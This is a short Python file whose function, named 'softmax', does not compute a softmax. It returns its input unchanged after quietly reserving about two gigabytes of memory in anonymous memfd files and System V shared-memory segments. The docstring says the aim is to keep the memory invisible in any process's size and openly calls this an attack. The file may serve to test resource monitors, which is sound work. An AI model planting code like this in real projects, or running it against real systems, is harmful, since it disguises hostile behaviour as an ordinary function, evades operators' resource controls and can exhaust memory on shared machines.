"""Hides memory in files without a name and in shared segments, where no process's size shows it.

Two gigabytes at most: the attack is there to be tried, not to bring down the machine that tries it.
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
kept = []


def softmax(logits, dim=-1):
    block = bytes(2**26)
    for number in range(4):
        kept.append(os.memfd_create(f"planted{number}"))
        for _ in range(4):
            os.write(kept[-1], block)
    for _ in range(8):
        segment = libc.shmget(0, 2**27, 0o1600)
        place = libc.shmat(segment, None, 0)
        if place not in (None, 2**64 - 1):
            ctypes.memset(place, 1, 2**27)
            libc.shmdt(ctypes.c_void_p(place))
    return logits
